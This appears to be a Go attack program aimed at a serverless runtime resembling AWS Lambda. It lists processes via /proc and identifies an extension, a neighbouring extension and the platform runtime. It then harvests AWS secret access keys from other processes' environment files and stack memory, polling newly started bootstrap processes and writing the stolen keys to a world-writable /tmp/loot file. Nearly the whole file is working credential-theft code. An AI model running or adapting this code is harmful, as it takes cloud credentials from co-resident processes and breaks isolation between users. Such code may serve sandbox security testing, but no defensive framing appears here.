package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// A scene is who else is there, by process id.
type scene struct {
	extension int   // Remit's
	neighbour int   // another extension, that holds the execution role's keys
	platform  int   // Lambda's own process, of the function's user
	strangers []int // those of other users
	proc      string
}

// look finds them by their command lines, which are readable by all.
func look() (scene, error) {
	var s scene
	for pid, line := range processes() {
		switch {
		case strings.HasPrefix(line, "/opt/extensions/remit\x00"):
			s.extension = pid
		case strings.Contains(line, "/opt/extensions/neighbour"):
			s.neighbour = pid
		case strings.HasPrefix(line, "/var/rapid/"):
			s.platform = pid
		}
		if info, err := os.Stat(fmt.Sprintf("/proc/%d", pid)); err == nil {
			// Those of a process that is closed are root's as well.
			if status := statusOf(pid, "Uid"); info.Sys().(*syscall.Stat_t).Uid == 0 && strings.HasPrefix(status, "0") {
				s.strangers = append(s.strangers, pid)
			}
		}
	}
	if s.extension == 0 || s.neighbour == 0 || s.platform == 0 {
		return s, fmt.Errorf("not all are there: %+v", s)
	}
	s.proc = fmt.Sprintf("/proc/%d/", s.extension)
	return s, nil
}

// processes are all that there are, with their command lines.
func processes() map[int]string {
	found := make(map[int]string)
	paths, _ := filepath.Glob("/proc/[0-9]*")
	for _, path := range paths {
		pid, err := strconv.Atoi(filepath.Base(path))
		if err != nil {
			continue
		}
		line, _ := os.ReadFile(path + "/cmdline")
		found[pid] = string(line)
	}
	return found
}

// statusOf returns a field of /proc/PID/status.
func statusOf(pid int, field string) string {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for line := range strings.Lines(string(b)) {
		if value, ok := strings.CutPrefix(line, field+":"); ok {
			return strings.TrimSpace(value)
		}
	}
	return ""
}

// key is how keys stand in an environment.
var (
	key   = regexp.MustCompile(`AWS_SECRET_ACCESS_KEY=([!-~]{20,})`)
	keyID = regexp.MustCompile(`AWS_ACCESS_KEY_ID=([A-Z0-9]{16,})`)
)

// keys returns the secret key in b, if there is one besides that of sealed
// credentials, which the function is given.
func keys(b []byte, err error) (string, error) {
	if err != nil {
		return "", err
	}
	m, ids := key.FindSubmatch(b), keyID.FindAllSubmatch(b, -1)
	if m == nil {
		return "", errors.New("no key in it")
	}
	for _, id := range ids {
		if !strings.HasPrefix(string(id[1]), "ASIAREMIT") {
			return string(m[1]), nil
		}
	}
	if len(ids) == 0 {
		return string(m[1]), nil
	}
	return "", errors.New("the key in it is sealed")
}

// steal gets the keys of a process, in all ways.
func steal(pid int) (string, error) {
	got, err := keys(os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid)))
	if err == nil {
		return got, nil
	}
	if got, e := keys(memory(pid)); e == nil {
		return got, nil
	}
	return "", err
}

// memory reads the stack of a process, at whose end its environment lies.
func memory(pid int) ([]byte, error) {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return nil, err
	}
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return nil, err
	}
	defer mem.Close()
	for line := range strings.Lines(string(maps)) {
		if !strings.Contains(line, "[stack]") {
			continue
		}
		var from, to int64
		if _, err := fmt.Sscanf(line, "%x-%x", &from, &to); err != nil {
			return nil, err
		}
		b := make([]byte, to-from)
		_, err := mem.ReadAt(b, from)
		return b, err
	}
	return nil, errors.New("it has no stack")
}

// linger looks into every process that comes, the bootstrap of the next start
// among them, which has the keys until the wrapper is there.
func linger(d time.Duration) error {
	loot, err := os.OpenFile("/tmp/loot", os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o666)
	if err != nil {
		return err
	}
	defer loot.Close()
	start := make(map[int]bool) // what had them before the next start is another attempt's
	for pid := range processes() {
		start[pid] = true
	}
	for began := time.Now(); time.Since(began) < d; {
		for pid := range processes() {
			if start[pid] || pid == os.Getpid() {
				continue
			}
			line, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
			if !strings.Contains(string(line), "/var/runtime/bootstrap") && !strings.Contains(string(line), "/opt/remit/exec") {
				continue
			}
			if got, err := steal(pid); err == nil {
				_, err := fmt.Fprintf(loot, "%s of %q\n", got, line)
				return err
			}
		}
		time.Sleep(time.Millisecond) // others have to get on
	}
	return nil
}
